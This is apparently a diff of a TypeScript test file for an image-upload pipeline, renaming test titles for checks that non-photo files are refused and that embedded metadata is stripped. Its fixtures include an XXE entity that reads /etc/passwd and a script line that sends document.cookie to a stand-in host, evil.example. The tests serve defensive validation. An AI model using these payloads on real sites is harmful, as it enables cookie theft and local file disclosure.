@@ -23,7 +23,7 @@ const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">';
 const ENTITY = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
 const PROGRAM = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
 
-describe('A file that is no photo', () => {
+describe('a file that is not a photo', () => {
   it.each<[string, () => Buffer | Promise<Buffer>]>([
     ['drawing.svg', () => Buffer.from(`${SVG}<rect width="9" height="9"/></svg>`)],
     ['entity.jpg', () => Buffer.from(`<?xml version="1.0"?>${ENTITY}${SVG}<text>&x;</text></svg>`)],
@@ -34,20 +34,20 @@ describe('A file that is no photo', () => {
     ['phone.avif', () => plain().avif().toBuffer()],
     ['page.html', () => Buffer.from(`<!doctype html>${PROGRAM}`)],
     ['begins-like.jpg', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(PROGRAM)])],
-  ])('%s is refused in a sentence that names it', async (name, make) => {
+  ])('%s is refused with a message that names it', async (name, make) => {
     const refused = process(name, await make());
     await expect(refused).rejects.toBeInstanceOf(PhotoRefused);
     await expect(refused).rejects.toThrow(sentence('problem.not-a-photo', { name }));
   });
 
-  it('is not looked into by a program that knows its kind', async () => {
+  it('is not parsed by a program for its format', async () => {
     await expect(sharp(Buffer.from(`${SVG}</svg>`)).metadata()).rejects.toThrow('unsupported image format');
     await expect(sharp(await plain().tiff().toBuffer()).metadata()).rejects.toThrow('unsupported image format');
   });
 });
 
-describe('A photo that carries something else', () => {
-  it.each(['jpeg', 'png', 'webp'] as const)('leaves it behind, as %s', async (format) => {
+describe('a photo with embedded data', () => {
+  it.each(['jpeg', 'png', 'webp'] as const)('is stored without it: %s', async (format) => {
     const about = {
       IFD0: { ImageDescription: PROGRAM, Copyright: 'Maya Tremblay' },
       IFD3: { GPSLatitude: '43/1 47/1' },
